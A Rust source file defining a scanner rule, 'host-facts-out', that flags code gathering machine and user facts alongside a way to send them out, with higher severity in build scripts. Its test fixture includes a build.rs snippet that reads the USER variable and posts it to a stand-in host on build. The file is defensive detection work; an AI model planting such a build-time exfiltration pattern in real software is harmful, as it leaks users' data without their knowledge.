//! `host-facts-out`: Facts about a machine with a way out: what a first stage sends.

use crate::report::Severity;
use crate::rules::{Explanation, Hit, Look, Rule, WAY, hit};
use crate::sign::Sign;

pub(super) const RULE: Rule = Rule {
    explanation: Explanation {
        code: "host-facts-out",
        techniques: &["A5"],
        means: "Facts about the machine and its user are gathered, and there is a way out for them.",
        look: "Whether it is telemetry that the user agreed to, and what the documents say of it.",
    },
    needs: &[Sign::HostFact, Sign::HostCommand],
    judge,
};

fn judge(look: &Look<'_>) -> Option<Hit> {
    let facts = look.has(Sign::HostFact)
        || (look.has(Sign::HostCommand) && look.any(&[Sign::Env, Sign::FsRead, Sign::Process]));
    let out = (look.reaches_out() && look.any(&[Sign::Send, Sign::Url, Sign::HiddenUrl, Sign::Encode]))
        || (look.has(Sign::Dns) && look.has(Sign::Encode));
    if !facts || !out {
        return None;
    }
    let severity = match () {
        () if look.is_build() => Severity::High,
        () if look.is_close() || look.scope.is_whole => Severity::Medium,
        () => Severity::Low,
    };
    hit(
        severity,
        &[Sign::HostFact, Sign::HostCommand],
        WAY,
        format!("{} asks which machine and user this is, and can tell it to somebody", look.where_it_runs()),
    )
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::Severity;
    use crate::rules::fixture::{fires, is_quiet};

    #[test]
    fn it_fires() {
        fires(
            &RULE,
            "build.rs",
            r##"fn main() {
    let who = std::env::var("USER").unwrap_or_default();
    let _ = ureq::post("https://a.example/b").send_string(&who);
}"##,
            Severity::High,
        );
    }

    #[test]
    fn look_alikes_are_left_alone() {
        is_quiet(
            &RULE,
            "src/lib.rs",
            r##"pub fn name() -> String { hostname::get().unwrap().to_string_lossy().into_owned() }"##,
        );
    }
}
